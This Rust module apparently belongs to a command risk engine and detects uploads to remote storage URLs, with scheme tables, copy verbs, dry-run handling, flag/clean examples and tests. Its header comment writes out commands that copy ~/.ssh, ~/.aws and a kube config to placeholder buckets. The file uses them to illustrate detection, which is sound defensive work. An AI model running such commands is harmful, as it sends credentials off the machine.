//! Remote places named by a URL scheme that copy tools write to: object
//! stores (`s3://`, `gs://`, `az://`), file transfer (`sftp://`,
//! `rsync://`, `ftp://`) and file shares. A command that names one of
//! these beside a secret copies the secret off the machine, whatever the
//! program (`gsutil cp -r ~/.ssh gs://b/`, `rclone copy ~/.aws s3://b`,
//! `s5cmd cp ~/.kube/config s3://b/`).

/// One scheme and what it reaches.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct RemoteStore {
    /// The URL prefix, lower case, with `://`.
    pub scheme: &'static str,
    /// What it reaches, for the reason shown.
    pub what: &'static str,
}

const fn s(scheme: &'static str, what: &'static str) -> RemoteStore {
    RemoteStore { scheme, what }
}

/// The table (rclone's and the cloud CLIs' URL schemes).
pub const REMOTE_STORES: &[RemoteStore] = &[
    s("s3://", "an S3 bucket"),
    s("s3a://", "an S3 bucket"),
    s("gs://", "a Google Cloud Storage bucket"),
    s("gcs://", "a Google Cloud Storage bucket"),
    s("az://", "an Azure storage container"),
    s("azure://", "an Azure storage container"),
    s("abfs://", "an Azure Data Lake container"),
    s("abfss://", "an Azure Data Lake container"),
    s("wasb://", "an Azure blob container"),
    s("wasbs://", "an Azure blob container"),
    s("r2://", "a Cloudflare R2 bucket"),
    s("b2://", "a Backblaze B2 bucket"),
    s("oss://", "an Alibaba Cloud OSS bucket"),
    s("cos://", "a Tencent Cloud COS bucket"),
    s("obs://", "a Huawei Cloud OBS bucket"),
    s("swift://", "an OpenStack Swift container"),
    s("hdfs://", "an HDFS cluster"),
    s("webhdfs://", "an HDFS cluster"),
    s("ftp://", "an FTP server"),
    s("ftps://", "an FTP server"),
    s("sftp://", "an SFTP server"),
    s("scp://", "an SSH server"),
    s("rsync://", "an rsync server"),
    s("dav://", "a WebDAV server"),
    s("davs://", "a WebDAV server"),
    s("webdav://", "a WebDAV server"),
    s("smb://", "an SMB share"),
];

/// Sub-command words of copy tools that send their earlier operands to
/// their last one (`aws s3 cp|mv|sync`, `gsutil cp|mv|rsync`, `gcloud
/// storage cp|mv|rsync`, `s3cmd put|sync`, `s5cmd cp|mv|sync`, `azcopy
/// copy|sync`): with a local path before a remote store's URL, local files
/// leave the machine (session 39: gsutil's and gcloud's copies passed
/// while aws's were judged by a rule of their own).
pub const STORE_COPY_VERBS: &[&str] = &[
    "cp", "mv", "sync", "rsync", "put", "copy", "upload", "copyto", "moveto",
];

/// Options that make a copy tool only list what it would copy (`aws s3 cp
/// --dryrun`, `gcloud storage rsync --dry-run`, `s3cmd --dry-run`); for
/// the synchronising verbs `-n` too (`gsutil rsync -n`; `gsutil cp -n` is
/// no-clobber and still copies).
pub const STORE_DRY_RUN: &[&str] = &["--dryrun", "--dry-run"];

/// Short options of the copy tools that take a value (gsutil rsync's `-a`
/// ACL, `-j` extensions, `-x`/`-y` exclude patterns; `-e` counted too, to
/// err on the side of an upload): a `-n` right after one is its value,
/// not a dry run (`gsutil rsync -x -n SRC DST`).
pub const STORE_VALUE_LETTERS: &[char] = &['a', 'j', 'x', 'y', 'e'];

/// Commands the risk engine must flag as uploads, and commands it must
/// leave clean.
pub const STORE_COPY_EXAMPLES: (&[&str], &[&str]) = (
    &[
        "gsutil cp -r ./conf gs://bucket-name/",
        "gsutil -m rsync -r ./site gs://b/site",
        "gcloud storage cp report.csv gs://b/",
        "aws s3 sync . s3://b/",
        "s3cmd put backup.tar s3://b/",
        "gsutil cp -n notes.txt gs://b/",
        "aws s3 sync myfolder s3://mybucket/folder --exclude *.tmp",
        "aws s3 cp --recursive ./dist s3://b/ --cache-control max-age=60",
    ],
    &[
        "gsutil cp gs://b/f.txt .",
        "gsutil cp gs://a/x gs://b/x",
        "gsutil rsync -n -r ./site gs://b/site",
        "aws s3 sync . s3://b/ --dryrun",
        "echo cp notes.txt gs://b/",
        "gsutil ls gs://b",
        "aws s3 sync s3://b/logs ./logs --exclude *.tmp",
    ],
);

/// The remote place `word` names, if it is one of [`REMOTE_STORES`].
pub fn remote_store(word: &str) -> Option<&'static RemoteStore> {
    let lower = word.get(..word.find("://")? + 3)?.to_ascii_lowercase();
    REMOTE_STORES.iter().find(|r| r.scheme == lower)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn schemes_are_lower_case_urls_named_once() {
        for (i, r) in REMOTE_STORES.iter().enumerate() {
            assert!(r.scheme.ends_with("://") && r.scheme == r.scheme.to_ascii_lowercase());
            assert!(REMOTE_STORES
                .iter()
                .skip(i + 1)
                .all(|o| o.scheme != r.scheme));
        }
    }

    #[test]
    fn remote_stores() {
        assert!(remote_store("gs://kestrel-drop/").is_some());
        assert!(remote_store("S3://Bucket/k").is_some());
        for w in [
            "https://example.org/x",
            "./s3://x",
            "gs:/x",
            "file:///tmp/x",
            "~/.ssh",
        ] {
            assert!(remote_store(w).is_none(), "{w}");
        }
    }
}
